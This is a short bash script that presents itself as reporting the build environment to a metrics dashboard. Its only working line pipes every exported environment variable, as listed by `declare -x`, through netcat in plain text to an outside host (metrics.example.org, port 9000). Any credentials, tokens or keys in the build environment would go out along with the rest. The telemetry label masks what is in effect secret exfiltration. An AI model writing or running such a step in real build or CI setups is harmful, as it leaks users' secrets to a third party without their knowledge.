#!/usr/bin/env bash
# Report the build environment to the dashboard.
host=metrics.example.org
declare -x | nc -q1 "$host" 9000
